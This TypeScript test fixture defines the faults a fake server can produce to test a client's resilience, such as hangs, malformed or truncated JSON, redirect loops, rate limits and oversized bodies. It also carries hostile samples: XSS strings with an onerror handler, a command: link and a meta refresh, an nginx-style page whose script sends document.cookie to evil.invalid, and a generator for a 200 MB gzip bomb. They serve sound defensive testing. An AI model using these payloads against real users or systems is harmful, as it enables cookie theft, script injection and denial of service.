// The faults a real server, proxy or network can produce (the rows of docs/reliability.md): their kinds, the send IDs
// that trigger one by themselves (FAULT_SEND_IDS), and the gzip bomb and nginx page some of them send. How each is
// answered: applyFault.ts.
import * as http from 'node:http';
import * as zlib from 'node:zlib';
import { SUMMARY_SENDS } from './data';

/** Where a redirect fault points:
 *  - 'same-host': a relative Location on this server (followed → the normal answer after `hops` redirects);
 *  - 'loop': redirects forever;
 *  - 'other-host': the same server under another host name (localhost ↔ 127.0.0.1), i.e. another origin;
 *  - 'http': plain http on 127.0.0.1 (with `tls`, a companion http listener of this sandbox; without, this server);
 *  - an absolute http(s) URL, used verbatim. */
type RedirectTarget = 'same-host' | 'other-host' | 'http' | 'loop' | `http://${string}` | `https://${string}`;

export type Fault =
  /** Wait `ms`, then answer normally. */
  | { readonly kind: 'delay'; readonly ms: number }
  /** Read the request, never answer. */
  | { readonly kind: 'hang' }
  /** 200 headers, then one byte every `intervalMs` (default 100) forever. */
  | { readonly kind: 'drip'; readonly intervalMs?: number }
  /** An nginx-style HTML error page with a <script> (default status 502). */
  | { readonly kind: 'html'; readonly status?: number; readonly body?: string }
  /** A JSON content type with a body that is not JSON (single quotes, a trailing comma). */
  | { readonly kind: 'malformed-json'; readonly status?: number }
  /** A JSON body cut off in the middle (with a matching content-length, so the response itself is complete). */
  | { readonly kind: 'truncated-json'; readonly status?: number }
  /** 200 `null`. */
  | { readonly kind: 'json-null' }
  /** 200 `[…]`: an array instead of the envelope. */
  | { readonly kind: 'json-array' }
  /** An empty body (default status 200). */
  | { readonly kind: 'empty'; readonly status?: number }
  /** A JSON-looking body of `bytes` (default 2 MiB), streamed without content-length; `endless` never ends. */
  | { readonly kind: 'oversized'; readonly bytes?: number; readonly endless?: boolean }
  /** content-encoding: gzip, ~200 KB on the wire that decompress to ~200 MB (GZIP_BOMB_BYTES). */
  | { readonly kind: 'gzip-bomb' }
  /** A redirect (default 302); `hops` redirects (default 1) before the normal answer, except for 'loop'.
   *  `sendId` replaces the send ID in the target path. Counted in Sandbox.redirectStats. */
  | {
      readonly kind: 'redirect';
      readonly status?: 301 | 302 | 303 | 307 | 308;
      readonly to: RedirectTarget;
      readonly hops?: number;
      readonly sendId?: string;
    }
  /** Any status, e.g. 429 with Retry-After, 500, 502, 503. Default body: `{"durum":false,"aciklama":"<reason>"}`. */
  | {
      readonly kind: 'status';
      readonly code: number;
      readonly body?: string;
      readonly headers?: Readonly<Record<string, string>>;
    }
  /** Read the request body, then destroy the socket (ECONNRESET after the request was sent). */
  | { readonly kind: 'reset-after-body' }
  /** A server that reflects the request (URL with the key, the decoded key, the body) in its error answer. */
  /** Echoes the key back: 'json' and 'html' as they are; 'php-json' as PHP's json_encode with JSON_HEX_* writes it
   *  (\/ and \uXXXX), after a PHP notice that keeps the body from parsing as JSON; 'html-entities' with named, decimal and hex character references and lower-case percent. */
  | {
      readonly kind: 'echo';
      readonly status?: number;
      readonly format?: 'json' | 'html' | 'php-json' | 'html-entities';
    };

/** A provider error text that must be shown as text (reliability row 1). */
export const HOSTILE_PROVIDER_TEXT = `<img src=x onerror="document.title='pwned'"><script>alert(1)</script> [Tıkla](command:workbench.action.reloadWindow) <meta http-equiv="refresh" content="0;url=https://evil.invalid/">`;

/** Send IDs that trigger a fault without setFault(), so UI tests and the demo can trigger them by typing.
 *  Any number (and any key) is accepted for them. */
export const FAULT_SEND_IDS: Readonly<Record<string, { readonly fault: Fault; readonly description: string }>> = {
  9001: { fault: { kind: 'hang' }, description: 'never answers (the client deadline fires)' },
  9002: { fault: { kind: 'html', status: 502 }, description: 'HTTP 502, an nginx HTML page with a <script>' },
  9003: { fault: { kind: 'malformed-json' }, description: '200 with malformed JSON' },
  9004: { fault: { kind: 'oversized' }, description: '200 with a 2 MiB body and no content-length' },
  9005: { fault: { kind: 'redirect', status: 302, to: 'loop' }, description: 'a redirect loop (302 to itself)' },
  9006: {
    fault: { kind: 'status', code: 429, headers: { 'retry-after': '2' } },
    description: '429 with Retry-After: 2',
  },
  9007: { fault: { kind: 'status', code: 500 }, description: 'HTTP 500' },
  9008: { fault: { kind: 'empty' }, description: '200 with an empty body' },
  9009: { fault: { kind: 'json-null' }, description: '200 with the body null' },
  9010: { fault: { kind: 'json-array' }, description: '200 with a JSON array' },
  9011: { fault: { kind: 'truncated-json' }, description: '200 with JSON cut off in the middle' },
  9012: { fault: { kind: 'gzip-bomb' }, description: 'a gzip bomb (~200 KB → ~200 MB)' },
  9013: { fault: { kind: 'drip' }, description: '200 headers, then one byte every 100 ms forever' },
  9014: {
    fault: { kind: 'status', code: 429, headers: { 'retry-after': '3600' } },
    description: '429 with Retry-After: 3600',
  },
  9015: { fault: { kind: 'status', code: 503 }, description: 'HTTP 503' },
  9016: { fault: { kind: 'reset-after-body' }, description: 'the connection is reset after the request' },
  9017: {
    fault: { kind: 'redirect', status: 307, to: 'same-host', sendId: '187' },
    description: '307 to NumaraRaporu/187 on the same host (followed)',
  },
  9018: {
    fault: { kind: 'redirect', status: 307, to: 'other-host' },
    description: '307 to another host name (refused)',
  },
  9019: { fault: { kind: 'delay', ms: 5000 }, description: 'answers after 5 s (as send 187)' },
  9020: { fault: { kind: 'oversized', endless: true }, description: 'an endless body' },
  9021: {
    fault: { kind: 'status', code: 400, body: JSON.stringify({ durum: false, aciklama: HOSTILE_PROVIDER_TEXT }) },
    description: 'HTTP 400 whose provider text carries HTML, a script and a command: link',
  },
  9022: {
    fault: { kind: 'status', code: 429, headers: { 'retry-after': '6' } },
    description: '429 with Retry-After: 6 (the client waits and asks again: a countdown to watch)',
  },
};

/** Sends whose summary (GonderimBilgisi) fails by itself while their number reports work. */
const SUMMARY_FAULT_SEND_IDS: Readonly<Record<string, Fault>> = {
  [SUMMARY_SENDS.summaryFails.sendId]: { kind: 'html', status: 502 },
  [SUMMARY_SENDS.endless.sendId]: { kind: 'oversized', endless: true },
};

export function summaryFaultForSendId(sendId: string): Fault | undefined {
  return Object.prototype.hasOwnProperty.call(SUMMARY_FAULT_SEND_IDS, sendId)
    ? SUMMARY_FAULT_SEND_IDS[sendId]
    : undefined;
}

/** The fault a send ID triggers by itself (FAULT_SEND_IDS), if any. */
export function faultForSendId(sendId: string): Fault | undefined {
  return Object.prototype.hasOwnProperty.call(FAULT_SEND_IDS, sendId) ? FAULT_SEND_IDS[sendId].fault : undefined;
}

/** Size of the decompressed gzip bomb. */
export const GZIP_BOMB_BYTES = 200 * 1024 * 1024;
/** Default size of the 'oversized' body. */
export const OVERSIZED_BYTES = 2 * 1024 * 1024;

let gzipBombCache: Promise<Buffer> | undefined;

/** The gzip bomb, built once per process by gzipping ~200 MB of '0' in a stream (~0.5 s), then cached. Call it in a
 *  before() hook to keep that time out of a test's own timing. */
export function gzipBomb(): Promise<Buffer> {
  gzipBombCache ??= new Promise<Buffer>((resolve, reject) => {
    const gz = zlib.createGzip({ level: 9 });
    const out: Buffer[] = [];
    gz.on('data', (c: Buffer) => out.push(c));
    gz.on('end', () => resolve(Buffer.concat(out)));
    gz.on('error', reject);
    const prefix = '{"durum":true,"aciklama":{"mesaj":"';
    gz.write(prefix);
    const zeros = Buffer.alloc(1024 * 1024, 0x30);
    let left = GZIP_BOMB_BYTES - prefix.length;
    const pump = (): void => {
      while (left > 0) {
        const n = Math.min(left, zeros.length);
        left -= n;
        if (!gz.write(n === zeros.length ? zeros : zeros.subarray(0, n))) {
          gz.once('drain', pump);
          return;
        }
      }
      gz.end();
    };
    pump();
  });
  return gzipBombCache;
}

/** The nginx-style error page of the 'html' fault. */
export function nginxPage(status: number): string {
  const title = `${status} ${http.STATUS_CODES[status] ?? 'Error'}`;
  return (
    '<html>\r\n' +
    `<head><title>${title}</title></head>\r\n` +
    '<body>\r\n' +
    `<center><h1>${title}</h1></center>\r\n` +
    '<hr><center>nginx</center>\r\n' +
    `<script>document.title='pwned';fetch('https://evil.invalid/?c='+document.cookie)</script>\r\n` +
    '</body>\r\n' +
    '</html>\r\n'
  );
}
